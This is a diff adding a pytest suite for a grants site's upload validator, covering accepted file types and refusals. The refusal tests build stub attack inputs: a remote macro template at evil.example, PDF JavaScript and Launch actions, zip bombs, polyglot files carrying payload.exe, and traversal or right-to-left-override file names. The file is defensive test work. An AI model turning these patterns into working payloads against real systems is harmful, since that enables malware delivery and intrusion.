@@ -1,0 +1,407 @@
+"""Checking uploaded files by their content: every refusal, and each allowed type accepted.
+
+The files are built here: hand-made PDF, PNG and JPEG bytes, DOCX and ODT with zipfile, a real
+XLSX from openpyxl. The builders are used by the page tests too.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook
+
+from grants import uploads
+from grants.uploads import UploadRefused, check_upload, safe_display_name
+
+# Builders ----------------------------------------------------------------------------------------
+
+
+def pdf_bytes(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>") -> bytes:
+    body = b"".join(objects) or b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"trailer\n" + trailer + b"\n%%EOF\n"
+
+
+def object_stream(body: bytes) -> bytes:
+    """PDF 1.5 object stream: dictionaries compressed out of plain sight."""
+    data = zlib.compress(b"1 0 " + body)
+    return (
+        b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
+        + data + b"\nendstream\nendobj\n"
+    )
+
+
+def _png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def png_bytes(width: int = 1, height: int = 1) -> bytes:
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    pixels = zlib.compress(b"\x00\xff\x00\x00" * height)  # one red pixel per row, filter byte first
+    return (
+        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", pixels)
+        + _png_chunk(b"IEND", b"")
+    )
+
+
+def jpeg_bytes(width: int = 1, height: int = 1) -> bytes:
+    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x11\x00\x02\x11\x01\x03\x11\x01"
+    scan = b"\xff\xda" + struct.pack(">H", 12) + b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + b"\x00" * 8
+    return b"\xff\xd8" + app0 + frame + scan + b"\xff\xd9"
+
+
+def zip_bytes(entries: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for index, (name, data) in enumerate(entries):
+            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
+            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, compress_type=method)
+    return buffer.getvalue()
+
+
+DOCX_TYPES = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="xml" ContentType="application/xml"/>'
+    b'<Override PartName="/word/document.xml" '
+    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+DOCUMENT_XML = (
+    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    b"<w:body><w:p><w:r><w:t>Our constitution</w:t></w:r></w:p></w:body></w:document>"
+)
+
+
+def docx_bytes(*extra: tuple[str, bytes], content_types: bytes = DOCX_TYPES) -> bytes:
+    return zip_bytes([
+        ("[Content_Types].xml", content_types),
+        ("_rels/.rels", b"<Relationships/>"),
+        ("word/document.xml", DOCUMENT_XML),
+        *extra,
+    ])
+
+
+def xlsx_bytes() -> bytes:
+    workbook = Workbook()
+    workbook.active["A1"] = "Income"
+    workbook.active["B1"] = 25000
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def odt_bytes(*extra: tuple[str, bytes], mimetype: bytes = b"application/vnd.oasis.opendocument.text",
+              content: bytes = b"<office:document-content><office:scripts/></office:document-content>") -> bytes:
+    return zip_bytes(
+        [("mimetype", mimetype), ("META-INF/manifest.xml", b"<manifest:manifest/>"), ("content.xml", content), *extra],
+        stored_first=True,
+    )
+
+
+def refusal(filename: str, data) -> str:
+    with pytest.raises(UploadRefused) as refused:
+        check_upload(filename, data)
+    return refused.value.message
+
+
+# Accepted ----------------------------------------------------------------------------------------
+
+ALLOWED = [
+    ("accounts.pdf", pdf_bytes, "pdf", "application/pdf"),
+    ("constitution.docx", docx_bytes, "docx",
+     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+    ("budget.xlsx", xlsx_bytes, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+    ("policy.odt", odt_bytes, "odt", "application/vnd.oasis.opendocument.text"),
+    ("photo.jpg", jpeg_bytes, "jpg", "image/jpeg"),
+    ("photo.JPEG", jpeg_bytes, "jpg", "image/jpeg"),
+    ("diagram.png", png_bytes, "png", "image/png"),
+]
+
+
+@pytest.mark.parametrize(("filename", "build", "file_type", "content_type"), ALLOWED)
+def test_each_allowed_type_is_accepted(filename, build, file_type, content_type):
+    data = build()
+    checked = check_upload(filename, data)
+    assert (checked.display_name, checked.file_type, checked.content_type) == (filename, file_type, content_type)
+    assert checked.data == data and checked.size_bytes == len(data)
+    assert len(checked.sha256) == 64
+
+
+def test_a_stream_is_read_like_bytes():
+    checked = check_upload("accounts.pdf", io.BytesIO(pdf_bytes()))
+    assert checked.data == pdf_bytes()
+
+
+def test_a_file_of_exactly_10mb_is_accepted():
+    data = pdf_bytes()
+    data += b"%" + b"x" * (uploads.MAX_BYTES - len(data) - 1)
+    assert check_upload("scan.pdf", data).size_bytes == 10 * 1024 * 1024
+
+
+def test_ordinary_pdf_features_are_accepted():
+    fonts = b"2 0 obj\n<< /Type /Font /BaseFont /Times#20New#20Roman /URI (https://example.org/) >>\nendobj\n"
+    assert check_upload("a.pdf", pdf_bytes(fonts, object_stream(b"<< /Type /Page /Parent 3 0 R >>")))
+
+
+# Refused: size and type --------------------------------------------------------------------------
+
+
+def test_an_empty_file_is_refused():
+    assert refusal("accounts.pdf", b"") == "The selected file is empty"
+    assert refusal("accounts.pdf", io.BytesIO()) == "The selected file is empty"
+
+
+def test_a_file_over_10mb_is_refused():
+    too_big = pdf_bytes() + b"0" * uploads.MAX_BYTES
+    assert refusal("accounts.pdf", too_big) == "The selected file must be smaller than 10MB"
+
+
+def test_a_stream_over_10mb_is_refused_without_reading_it_all():
+    stream = io.BytesIO(b"%PDF-" + b"0" * (50 * 1024 * 1024))
+    assert refusal("accounts.pdf", stream) == "The selected file must be smaller than 10MB"
+    assert stream.tell() == uploads.MAX_BYTES + 1
+
+
+@pytest.mark.parametrize("filename", ["setup.exe", "notes.txt", "accounts", "report.pdf.exe", "page.html", "sheet.ods"])
+def test_other_types_are_refused(filename):
+    assert refusal(filename, pdf_bytes()) == "The selected file must be a PDF, DOCX, XLSX, ODT, JPG or PNG"
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [
+        ("constitution.docx", pdf_bytes),  # a PDF renamed .docx
+        ("accounts.pdf", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),  # an .exe renamed .pdf
+        ("photo.jpg", png_bytes),
+        ("diagram.png", jpeg_bytes),
+        ("budget.xlsx", docx_bytes),
+        ("constitution.docx", xlsx_bytes),
+        ("policy.odt", docx_bytes),
+        ("policy.odt", lambda: odt_bytes(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")),
+        ("constitution.docx", lambda: zip_bytes([("readme.txt", b"hello")])),
+        ("accounts.pdf", lambda: b"<html><script>alert(1)</script></html>"),
+        ("accounts.pdf", lambda: b" %PDF-1.7\n" + pdf_bytes()),  # the header must come first
+    ],
+)
+def test_content_that_does_not_match_the_name_is_refused(filename, build):
+    extension = filename.rpartition(".")[2]
+    assert refusal(filename, build()) == f"The selected file's content does not match its name (.{extension})"
+
+
+# Refused: macros ---------------------------------------------------------------------------------
+
+MACROS = "The selected file contains macros. Save it without macros and try again"
+
+
+def _xlsx_with(*extra: tuple[str, bytes]) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as source:
+        entries = [(info.filename, source.read(info)) for info in source.infolist()]
+    return zip_bytes(entries + list(extra))
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [
+        ("constitution.docm", docx_bytes),
+        ("budget.xlsm", xlsx_bytes),
+        ("constitution.docx", lambda: docx_bytes(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))),
+        ("constitution.docx", lambda: docx_bytes(content_types=DOCX_TYPES.replace(
+            b"document.main+xml", b"document.macroEnabled.main+xml"))),
+        ("budget.xlsx", lambda: _xlsx_with(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))),
+        ("budget.xlsx", lambda: _xlsx_with(("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"))),
+        ("constitution.docx", lambda: docx_bytes(("word/embeddings/Sheet1.xlsm", b"PK"))),
+        ("constitution.docx", lambda: docx_bytes(("word/_rels/settings.xml.rels",
+            b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+            b' Target="https://evil.example/t.dotm" TargetMode="External"/>'))),
+        ("policy.odt", lambda: odt_bytes(("Basic/Standard/Module1.xml", b"<script:module/>"))),
+        ("policy.odt", lambda: odt_bytes(("Scripts/python/run.py", b"import os"))),
+        ("policy.odt", lambda: odt_bytes(content=b'<office:event-listeners><script:event-listener '
+                                          b'xlink:href="vnd.sun.star.script:Standard.Module1.Run"/>')),
+    ],
+)
+def test_macros_are_refused(filename, build):
+    assert refusal(filename, build()) == MACROS
+
+
+# Refused: archives that unpack too large ---------------------------------------------------------
+
+UNPACKS = "The selected file is too large when opened. Save a smaller version and try again"
+
+
+def test_a_zip_bomb_is_refused_from_its_directory():
+    bomb = docx_bytes(("word/media/padding.bin", b"\x00" * (60 * 1024 * 1024)))
+    assert len(bomb) < 200 * 1024  # 60MB of zeros squeezed small
+    assert refusal("constitution.docx", bomb) == UNPACKS
+
+
+def test_an_entry_compressed_beyond_any_real_document_is_refused():
+    assert refusal("constitution.docx", docx_bytes(("word/padding.xml", b"\x00" * (5 * 1024 * 1024)))) == UNPACKS
+
+
+def test_too_many_entries_are_refused():
+    many = docx_bytes(*((f"word/part{n}.xml", b"<x/>") for n in range(uploads.MAX_ENTRIES)))
+    assert refusal("constitution.docx", many) == UNPACKS
+
+
+def test_overlapping_entries_are_refused():
+    data = bytearray(docx_bytes(("word/other.xml", b"<other/>")))
+    # Point the last central directory entry at the first local header (Fifield's "better zip bomb").
+    last = data.rfind(b"PK\x01\x02")
+    struct.pack_into("<L", data, last + 42, 0)
+    assert refusal("constitution.docx", bytes(data)) == "The selected file could not be read. Save it again and try again"
+
+
+def test_a_pdf_object_stream_that_unpacks_too_large_is_refused():
+    assert refusal("accounts.pdf", pdf_bytes(object_stream(b"\x00" * (60 * 1024 * 1024)))) == UNPACKS
+
+
+# Refused: hidden content (polyglots) --------------------------------------------------------------
+
+HIDDEN = "The selected file has other content hidden in it. Save it again and try again"
+PAYLOAD = zip_bytes([("payload.exe", b"MZ" + b"\x00" * 64)])
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [
+        ("diagram.png", lambda: png_bytes() + PAYLOAD),
+        ("accounts.pdf", lambda: pdf_bytes() + PAYLOAD),
+        ("photo.jpg", lambda: jpeg_bytes() + PAYLOAD),
+        ("accounts.pdf", lambda: pdf_bytes().replace(b"%%EOF", PAYLOAD + b"\n%%EOF")),  # inside, not at the end
+        ("diagram.png", lambda: png_bytes() + b"trailing bytes"),
+        ("diagram.png", lambda: png_bytes()[:33] + _png_chunk(b"tEXt", b"%PDF-1.7 hidden") + png_bytes()[33:]),
+        ("constitution.docx", lambda: docx_bytes() + b"appended after the archive"),
+        ("constitution.docx", lambda: zip_bytes([  # a PDF header in the first 1KB: opens as a PDF too
+            ("%PDF-1.7 1 0 obj", b"x"), ("[Content_Types].xml", DOCX_TYPES), ("word/document.xml", DOCUMENT_XML)])),
+    ],
+)
+def test_hidden_content_is_refused(filename, build):
+    assert refusal(filename, build()) == HIDDEN
+
+
+# Refused: active PDFs and passwords --------------------------------------------------------------
+
+ACTIVE = "The selected PDF contains scripts, actions or attached files. Save it without them and try again"
+
+
+@pytest.mark.parametrize(
+    "objects",
+    [
+        b"1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n",
+        b"1 0 obj\n<< /Type /Catalog /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<</S/JS>>\nendobj\n",
+        b"1 0 obj\n<< /Type /Action /S /Launch /F (cmd.exe) >>\nendobj\n",
+        b"1 0 obj\n<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream\nendobj\n",
+        b"1 0 obj\n<< /Names << /EmbeddedFiles 4 0 R >> >>\nendobj\n",
+        b"1 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n",  # names spelt in hex
+        object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),  # hidden in a compressed object stream
+        object_stream(b"<< /S /Lau#6Ech >>"),
+    ],
+)
+def test_active_pdfs_are_refused(objects):
+    assert refusal("accounts.pdf", pdf_bytes(objects)) == ACTIVE
+
+
+def test_password_protected_files_are_refused():
+    encrypted = pdf_bytes(trailer=b"<< /Root 1 0 R /Encrypt 9 0 R >>")
+    assert refusal("accounts.pdf", encrypted) == "The selected file is password protected. Remove the password and try again"
+    data = bytearray(docx_bytes())
+    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # set the "encrypted" bit
+        at = data.find(signature)
+        data[at + flags_at] |= 0x1
+    assert refusal("constitution.docx", bytes(data)) == (
+        "The selected file is password protected. Remove the password and try again"
+    )
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [("diagram.png", lambda: png_bytes(20000, 20000)), ("photo.jpg", lambda: jpeg_bytes(20000, 20000))],
+)
+def test_images_too_large_to_open_are_refused(filename, build):
+    assert refusal(filename, build()) == "The selected image is too large. Save it at a smaller size and try again"
+
+
+@pytest.mark.parametrize(
+    ("filename", "data"),
+    [
+        ("diagram.png", png_bytes()[:20]),
+        ("photo.jpg", b"\xff\xd8\xff\xe0\x00"),
+        ("constitution.docx", docx_bytes()[:-30]),
+        ("constitution.docx", b"PK\x03\x04" + b"\x00" * 26 + b"PK\x05\x06" + b"\x00" * 18),  # no entries
+        ("accounts.pdf", pdf_bytes(b"5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream\n")),
+    ],
+)
+def test_damaged_files_are_refused(filename, data):
+    assert refusal(filename, data) in {uploads.UNREADABLE, HIDDEN}
+
+
+# File names --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("sent", "shown"),
+    [
+        ("../../etc/passwd.pdf", "passwd.pdf"),
+        ("C:\\Users\\Sam\\Documents\\accounts 2025.pdf", "accounts 2025.pdf"),
+        ("acc\x00ount\x1bs\r\n.pdf", "accounts .pdf"),
+        (".hidden.pdf", "hidden.pdf"),
+        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # a right-to-left override hiding ".exe"
+        ('we say "hello" <b>.pdf', "we say _hello_ _b_.pdf"),
+        ("Übersicht   der\tKonten.pdf", "Übersicht der Konten.pdf"),
+        ("", "document"),
+        ("...", "document"),
+    ],
+)
+def test_odd_file_names_are_neutralised(sent, shown):
+    assert safe_display_name(sent) == shown
+
+
+def test_a_very_long_name_is_shortened_keeping_its_extension():
+    shown = safe_display_name("a" * 300 + ".pdf")
+    assert len(shown) == 100 and shown.endswith("aaa.pdf")
+
+
+def test_the_extension_of_a_neutralised_name_is_the_one_checked():
+    assert refusal("invoice\u202efdp.exe", pdf_bytes()) == uploads.WRONG_TYPE
+    assert check_upload("../../etc/passwd.pdf", pdf_bytes()).display_name == "passwd.pdf"
+
+
+@given(st.text(max_size=400))
+def test_any_name_becomes_a_short_plain_name(name):
+    shown = safe_display_name(name)
+    assert 0 < len(shown) <= uploads.MAX_NAME_LENGTH
+    assert "/" not in shown and "\\" not in shown and not shown.startswith(".")
+    assert all(ch.isprintable() for ch in shown)
+
+
+@settings(max_examples=300)
+@given(st.sampled_from(["a.pdf", "a.docx", "a.xlsx", "a.odt", "a.jpg", "a.png"]), st.binary(min_size=1, max_size=2000),
+       st.sampled_from([b"", b"%PDF-", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04"]))
+def test_any_bytes_are_accepted_or_refused_but_never_crash(filename, data, prefix):
+    try:
+        check_upload(filename, prefix + data)
+    except UploadRefused:
+        pass
+
+
+# Built once: openpyxl stamps the time into each workbook, and hypothesis needs the same bytes.
+SAMPLES = [(filename, build()) for filename, build, _, _ in ALLOWED]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.sampled_from(SAMPLES), st.data())
+def test_damaged_copies_of_real_files_are_accepted_or_refused_but_never_crash(sample, data):
+    filename, good = sample
+    original = bytearray(good)
+    for _ in range(data.draw(st.integers(1, 4))):
+        at = data.draw(st.integers(0, len(original) - 1))
+        original[at] = data.draw(st.integers(0, 255))
+    try:
+        check_upload(filename, bytes(original))
+    except UploadRefused:
+        pass
